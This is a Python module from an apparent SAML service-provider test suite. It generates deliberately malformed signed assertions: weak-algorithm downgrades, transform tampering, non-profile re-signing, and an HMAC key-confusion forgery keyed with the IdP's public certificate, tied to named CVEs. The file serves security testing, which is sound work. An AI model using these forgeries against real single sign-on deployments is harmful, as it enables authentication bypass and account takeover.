"""ALG: signature/digest algorithms, canonicalization and transforms."""
from __future__ import annotations

from lxml import etree

from ..builder import DS, q
from . import Fault, FaultContext, register, register_factory
from ._common import _asig, _assertion_signed, _iter_tag, _set_signing


register(Fault("alg-rsa-sha1", "RSA-SHA1 signatures with SHA-1 digests",
               ("ALG-02", "ALG-03", "SAML2Int SDP-ALG01"), signing=_set_signing(algorithm="rsa-sha1", digest="sha1")))
register(Fault("alg-sha1-digest", "SHA-1 DigestMethod under an RSA-SHA256 signature",
               ("ALG-03",), signing=_set_signing(algorithm="rsa-sha256", digest="sha1")))


@register_factory("signature-method", "SignatureMethod Algorithm relabelled after signing (MD5, DSA-SHA1, HMAC, unknown)",
                  ("ALG-01", "ALG-04", "ALG-05", "ALG-06"), uri="http://www.w3.org/2001/04/xmldsig-more#rsa-md5")
def _sigmethod(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0].set("Algorithm", uri)
        if uri.endswith("hmac-sha1"):
            sm = _iter_tag(_asig(root), q(DS, "SignatureMethod"))[0]
            etree.SubElement(sm, q(DS, "HMACOutputLength")).text = "8"

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("canonicalization", "CanonicalizationMethod of the Assertion signature relabelled (inclusive c14n 1.1, ...)",
                  ("ALG-07",), uri="http://www.w3.org/2006/12/xml-c14n11")
def _c14n(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _iter_tag(_asig(root), q(DS, "CanonicalizationMethod"))[0].set("Algorithm", uri)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("transforms", "Reference Transforms changed: none, three, or without enveloped-signature",
                  ("ALG-08", "CVE-2020-5390"), mode="none")
def _transforms(mode: str) -> Fault:
    if mode not in ("none", "three", "no-enveloped"):
        raise ValueError("transforms mode must be none, three or no-enveloped")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        ts = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
        if mode == "none":
            ts.getparent().remove(ts)
        elif mode == "three":
            etree.SubElement(ts, q(DS, "Transform"), Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
        else:
            ts.remove(ts[0])

    return Fault("", "", signing=_assertion_signed(), signed=signed)


HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"


@register_factory("hmac-key-confusion",
                  "The Assertion's signature re-made as HMAC-SHA1 keyed with the IdP certificate's DER bytes (public, "
                  "so anyone can): an SP that lets SignatureMethod pick the algorithm and feeds it its IdP 'key' "
                  "verifies it; bits>0 adds HMACOutputLength (CVE-2009-0217 truncation)",
                  ("ALG-05", "CVE-2009-0217", "CVE-2021-21239", "pysaml2 signed-assertion-with-hmac fixture"), bits=0)
def _hmac_confusion(bits: int) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        import base64
        import hashlib
        import hmac

        sig = _asig(root)
        si = sig.find(q(DS, "SignedInfo"))
        sm = si.find(q(DS, "SignatureMethod"))
        sm.set("Algorithm", HMAC_SHA1)
        for c in list(sm):
            sm.remove(c)
        if int(bits):
            etree.SubElement(sm, q(DS, "HMACOutputLength")).text = str(int(bits))
        key = base64.b64decode(ctx.idp.key.cert_b64)
        mac = hmac.new(key, etree.tostring(si, method="c14n", exclusive=True), hashlib.sha1).digest()
        if int(bits):
            mac = mac[: max(1, int(bits) // 8)]
        sig.find(q(DS, "SignatureValue")).text = base64.b64encode(mac).decode()

    return Fault("", "", signing=_assertion_signed(), signed=signed)


# ----------------------------------------------------------------------------- exact shapes: re-made signatures
_METHODS = {
    "rsa-md5": "TransformRsaMd5", "rsa-sha256": "TransformRsaSha256", "rsa-sha1": "TransformRsaSha1",
}
_C14N = {"exc-c14n": "TransformExclC14N", "c14n11": "TransformInclC14N11", "c14n": "TransformInclC14N"}
XPATH_NOT_SIG = "not(ancestor-or-self::ds:Signature)"


@register_factory("resign",
                  "The Assertion's signature re-made by the IdP key in a shape SAML's signature profile forbids "
                  "(a real signature, valid for a generic XML-DSig verifier): SignatureMethod (rsa-md5, ...), "
                  "CanonicalizationMethod (c14n11, ...), Reference URI (\"\" or \"#xpointer(/)\") and transforms "
                  "(\"three\": enveloped twice + exc-c14n; \"xpath\": an XPath filter instead of enveloped)",
                  ("ALG-01", "ALG-07", "ALG-08", "SIG-13", "SIG-14", "XML-10", "SAML Core 5.4"),
                  method="rsa-sha256", c14n="exc-c14n", uri="#id", transforms="standard")
def _resign(method: str, c14n: str, uri: str, transforms: str) -> Fault:
    if method not in _METHODS or c14n not in _C14N or transforms not in ("standard", "three", "xpath") \
            or uri not in ("#id", "", "#xpointer(/)"):
        raise ValueError("resign: method in %s, c14n in %s, uri in '#id' '' '#xpointer(/)', transforms in "
                         "standard three xpath" % (sorted(_METHODS), sorted(_C14N)))

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        import xmlsec

        from ._common import _assertion

        a = _assertion(root)
        old = _asig(root)
        issuer = old.getprevious()
        a.remove(old)
        C = xmlsec.constants
        sig = xmlsec.template.create(a, getattr(C, _C14N[c14n]), getattr(C, _METHODS[method]), ns="ds")
        (issuer.addnext if issuer is not None else (lambda s: a.insert(0, s)))(sig)
        ref = xmlsec.template.add_reference(sig, C.TransformSha256,
                                            uri="#" + a.get("ID") if uri == "#id" else uri)
        if transforms == "xpath":
            t = xmlsec.template.add_transform(ref, C.TransformXPath)
            etree.SubElement(t, q(DS, "XPath")).text = XPATH_NOT_SIG
        else:
            xmlsec.template.add_transform(ref, C.TransformEnveloped)
            if transforms == "three":
                xmlsec.template.add_transform(ref, C.TransformEnveloped)
        xmlsec.template.add_transform(ref, C.TransformExclC14N)
        ki = xmlsec.template.ensure_key_info(sig)
        etree.SubElement(etree.SubElement(ki, q(DS, "X509Data")), q(DS, "X509Certificate")).text = \
            ctx.idp.key.cert_b64
        sctx = xmlsec.SignatureContext()
        sctx.key = xmlsec.Key.from_memory(ctx.idp.key.key_pem, C.KeyDataFormatPem)
        sctx.register_id(a, "ID")
        sctx.sign(sig)

    return Fault("", "", signing=_assertion_signed(), signed=signed)
